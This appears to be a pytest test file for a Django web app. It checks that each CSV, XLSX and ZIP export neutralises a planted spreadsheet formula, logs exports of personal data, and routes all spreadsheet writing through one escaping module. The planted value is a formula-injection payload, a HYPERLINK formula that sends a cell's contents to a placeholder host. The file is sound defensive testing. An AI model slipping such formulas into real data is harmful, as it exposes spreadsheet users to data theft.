"""Every CSV and XLSX download, walked with a formula planted in text someone typed.

Each export below gets the same formula in a field it shows; the file that comes back must hold it only as
text a spreadsheet will not run. A source check keeps every writer on the one module that escapes.
"""

import csv
import datetime
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from waymark.accounts.factories import make_persona, verified_login
from waymark.core.choices import ExportKind
from waymark.core.factories import OrganisationFactory
from waymark.core.models import ExportLog
from waymark.core.roles import Role
from waymark.directory.factories import FundingSourceFactory, ServiceFactory
from waymark.monitoring.tests.pages_fixtures import borough  # noqa: F401 (a fixture an export below uses)
from waymark.network.factories_events import EventFactory, QuestionFactory, SurveyFactory, TicketTypeFactory
from waymark.network.factories_meetings import ContactFactory
from waymark.network.models import QuestionKind, SurveyInvitation, SurveyStatus
from waymark.network.services import events as services_events
from waymark.network.services import surveys as services_surveys
from waymark.voice.factories_escalations import EscalationFactory

pytestmark = pytest.mark.django_db

PLANTED = '=HYPERLINK("http://example.invalid/?"&B2,"Open the full report")'
WAYMARK = Path(__file__).resolve().parent.parent / "waymark"


@dataclass(frozen=True)
class Export:
    """One download: how to plant the formula, the request that fetches the file, and the kind of row it
    leaves in the export log (personal data and unsuppressed figures), if any."""

    plant: Callable[[pytest.FixtureRequest], tuple[str, dict[str, str]]]
    method: str = "get"
    persona: str = Role.STAFF
    shows_typed_text: bool = True
    logged_as: str | None = None


def _organisations(request):
    OrganisationFactory(name=PLANTED)
    return reverse("core:organisation_list"), {"format": "csv"}


def _services(request):
    ServiceFactory(name=PLANTED)
    return reverse("directory:manage"), {"format": "csv"}


def _hsds_tabular_package(request):
    ServiceFactory(name=PLANTED, organisation=OrganisationFactory(name=PLANTED))
    return reverse("directory:hsds_export_package"), {}


def _fragility_radar(request):
    FundingSourceFactory(
        organisation=OrganisationFactory(name=PLANTED), ends_on=timezone.localdate() + datetime.timedelta(days=40)
    )
    return reverse("directory:fragility"), {"format": "csv"}


def _voice_report(file_format):
    def plant(request):
        EscalationFactory(responder=OrganisationFactory(name=PLANTED))
        return reverse("voice:report_export"), {"format": file_format}

    return plant


def _provider_dashboard(file_format):
    def plant(request):
        provider = request.getfixturevalue("borough").provider
        provider.name = PLANTED
        provider.save()
        return reverse("monitoring:provider_dashboard", args=[provider.uuid]), {"format": file_format}

    return plant


def _survey(file_format):
    def plant(request):
        survey = SurveyFactory(status=SurveyStatus.OPEN, anonymous=False)
        question = QuestionFactory(survey=survey, text=PLANTED, kind=QuestionKind.TEXT)
        invitation = SurveyInvitation.objects.create(survey=survey, email="person@example.org")
        services_surveys.submit_response(invitation=invitation, answers={question.pk: PLANTED})
        return reverse("network:survey_results", args=[survey.uuid]), {"format": file_format}

    return plant


def _registrations(request):
    event = EventFactory()
    services_events.register(
        event=event, ticket_type=TicketTypeFactory(event=event), name=PLANTED, email="person@example.org"
    )
    return reverse("network:event_registration_list", args=[event.uuid]), {"format": "csv"}


def _plan_actions(file_format):
    def plant(request):
        from waymark.plans.factories import ActionFactory

        action = ActionFactory(title=PLANTED)
        return reverse("plans:action_export", args=[action.objective.plan.uuid]), {"format": file_format}

    return plant


def _consultations(file_format):
    def plant(request):
        from waymark.partnership.factories import CommunityFactory, ConsultationFactory, ThemeFactory

        ConsultationFactory(title=PLANTED, communities=[CommunityFactory()], themes=[ThemeFactory()])
        return reverse("partnership:consultation_export"), {"format": file_format}

    return plant


def _subject_access(request):
    ContactFactory(name=PLANTED, email="person@example.org")
    return reverse("core:personal_data_export"), {"email": "person@example.org"}


EXPORTS = {
    "organisations CSV": Export(_organisations),
    "services CSV": Export(_services),
    "Open Referral UK tabular package (ZIP of CSVs)": Export(_hsds_tabular_package),
    "fragility radar CSV": Export(_fragility_radar, logged_as=ExportKind.FUNDING_AMOUNTS),
    "voice intelligence report CSV": Export(_voice_report("csv"), logged_as=ExportKind.VOICE_REPORT),
    "voice intelligence report XLSX": Export(_voice_report("xlsx"), logged_as=ExportKind.VOICE_REPORT),
    # Staff see a provider's figures disclosure-controlled, so their download is not logged; see below.
    "provider dashboard CSV": Export(_provider_dashboard("csv"), shows_typed_text=False),  # figures only
    "provider dashboard XLSX": Export(_provider_dashboard("xlsx")),
    "survey responses CSV": Export(_survey("csv"), logged_as=ExportKind.SURVEY_RESPONSES),
    "survey responses XLSX": Export(_survey("xlsx"), logged_as=ExportKind.SURVEY_RESPONSES),
    "event registrations CSV": Export(_registrations, logged_as=ExportKind.REGISTRATIONS),
    "plan actions CSV": Export(_plan_actions("csv"), logged_as=ExportKind.PLAN_ACTIONS),
    "plan actions XLSX": Export(_plan_actions("xlsx"), logged_as=ExportKind.PLAN_ACTIONS),
    "consultation calendar CSV": Export(_consultations("csv"), logged_as=ExportKind.CONSULTATIONS),
    "consultation calendar XLSX": Export(_consultations("xlsx"), logged_as=ExportKind.CONSULTATIONS),
    "subject access export": Export(
        _subject_access, method="post", persona=Role.ADMIN, logged_as=ExportKind.SUBJECT_ACCESS
    ),
}


def _csv_cells(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from row


def _cells(content_type: str, content: bytes) -> Iterator[str]:
    """Every text cell of a CSV, an XLSX (each sheet; a formula cell fails at once) or a ZIP of CSVs."""
    if content_type.startswith("application/vnd.openxmlformats"):
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                    if isinstance(cell.value, str):
                        yield cell.value
    elif content_type == "application/zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield from _csv_cells(archive.read(name))
    else:
        yield from _csv_cells(content)


def _download(request, export):
    url, data = export.plant(request)
    client = Client()
    user = make_persona(export.persona)
    verified_login(client, user)
    response = getattr(client, export.method)(url, data)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return user, response, content


@pytest.mark.parametrize("name", EXPORTS)
def test_every_export_neutralises_a_planted_formula(request, name):
    export = EXPORTS[name]

    _user, response, content = _download(request, export)

    cells = list(_cells(response["Content-Type"], content))
    assert PLANTED not in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
    if export.shows_typed_text:
        assert any(cell.startswith("'" + PLANTED) for cell in cells), "the planted text should reach the file"


@pytest.mark.parametrize("name", EXPORTS)
def test_each_export_of_personal_data_or_unsuppressed_figures_writes_one_log_row(request, name):
    export = EXPORTS[name]

    user, _response, _content = _download(request, export)

    logged = list(ExportLog.objects.all())
    if export.logged_as is None:
        assert logged == []
    else:
        (row,) = logged
        assert (row.user, row.kind) == (user, export.logged_as)
        assert row.rows >= 1 and row.description and row.created_at
        assert "format" not in row.filters


def test_an_analyst_downloading_unsuppressed_figures_is_logged_with_the_filters(client, borough):  # noqa: F811
    verified_login(client, borough.analyst)
    url = reverse("monitoring:provider_dashboard", args=[borough.provider.uuid])

    response = client.get(url, {"format": "xlsx", "year": "2024", "confidence": "0.998"})

    assert response.status_code == 200
    (row,) = ExportLog.objects.all()
    assert (row.user, row.kind) == (borough.analyst, ExportKind.UNSUPPRESSED_FIGURES)
    assert "Riverside Mental Health Trust" in row.description
    assert row.filters == {"year": "2024", "confidence": "0.998"}
    assert row.rows > 0


# Files that build CSV or XLSX without core.spreadsheets, and why each may.
NOT_FOR_PEOPLE_TO_OPEN = {
    "core/spreadsheets.py": "the one writer itself",
    "core/demo.py": "writes the demo's population file for the monitoring importer to read",
    "monitoring/factories.py": "builds import files for tests",
}


def test_every_spreadsheet_is_written_by_the_one_writer():
    """Only core.spreadsheets builds CSV or XLSX files for people to open, so no export can skip escaping."""
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    offenders = [
        str(path.relative_to(WAYMARK))
        for path in WAYMARK.rglob("*.py")
        if "tests" not in path.parts
        and str(path.relative_to(WAYMARK)) not in NOT_FOR_PEOPLE_TO_OPEN
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
